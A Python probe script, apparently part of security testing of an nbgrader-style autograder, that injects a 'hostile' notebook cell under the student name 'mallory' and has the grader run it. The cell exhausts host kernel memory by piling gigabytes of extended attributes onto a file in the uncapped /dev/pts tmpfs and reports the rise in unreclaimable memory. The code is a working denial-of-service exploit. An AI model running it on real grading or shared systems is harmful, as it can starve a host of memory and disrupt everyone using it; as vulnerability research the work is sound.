"""a03b: a03's uncapped /dev/pts tmpfs, faster: tmpfs keeps user.* extended attributes in kernel memory, bounded only
by its inode space (nr_inodes x 1 KiB: 64 MiB on the capped /tmp, /dev/shm and work folder, but ~3 GiB on /dev/pts,
whose inodes nobody capped). One file, 64 KiB values (each a 128 KiB kernel allocation): the cell sets XATTRS_MIB
MiB of them (default 1,024), shows the host's SUnreclaim, then removes the file. No rlimit counts any of it.
(Tried first on a root-mounted 4 KiB tmpfs in /tmp/a12probe/t: 20,000 x 64 KiB took SUnreclaim 113 -> 2,616 MiB;
freed, lazily, some minutes after the umount.)"""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import u12

MIB = int(sys.argv[1]) if len(sys.argv) > 1 else 1024
CELL = r'''
import os, time
def _xattrs(mib):
    def mi(k): return next(int(l.split()[1]) // 1024 for l in open("/proc/meminfo") if l.startswith(k + ":"))
    p = "/dev/pts/x"
    open(p, "w").close()
    s0, n = mi("SUnreclaim"), 0
    try:
        for i in range(mib * 16):
            os.setxattr(p, f"user.k{i}", b"x" * 65536)
            n += 1
    except OSError as e:
        print("stopped:", e)
    print(f"{n:,} xattrs of 64 KiB ({n * 64 // 1024} MiB of values) on one file of /dev/pts; host SUnreclaim {s0} -> "
          f"{mi('SUnreclaim')} MiB", flush=True)
    for d in ("/tmp", "/dev/shm"):
        q = d + "/x"
        open(q, "w").close()
        m = 0
        try:
            for i in range(mib * 16):
                os.setxattr(q, f"user.k{i}", b"x" * 65536)
                m += 1
        except OSError as e:
            pass
        os.unlink(q)
        print(f"for comparison, {d}: {m * 64 // 1024} MiB of xattrs before ENOSPC", flush=True)
    os.unlink(p)
    time.sleep(2)
    print("file removed: SUnreclaim", mi("SUnreclaim"), "MiB", flush=True)
_xattrs(%d)
''' % MIB
hostile = u12.notebook("ps1_memory", append={"training_memory": CELL})
dest = u12.course("a03b", {("mallory", "ps1_memory"): hostile})
u12.grade(dest)
u12.scores(dest)
import nbformat
nb = nbformat.read(f"{dest}/autograded/mallory/ps1_memory/ps1_memory.ipynb", 4)
for c in nb.cells:
    if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "training_memory":
        for o in c.get("outputs", []):
            print("OUTPUT:", o.get("text") or o.get("evalue"))
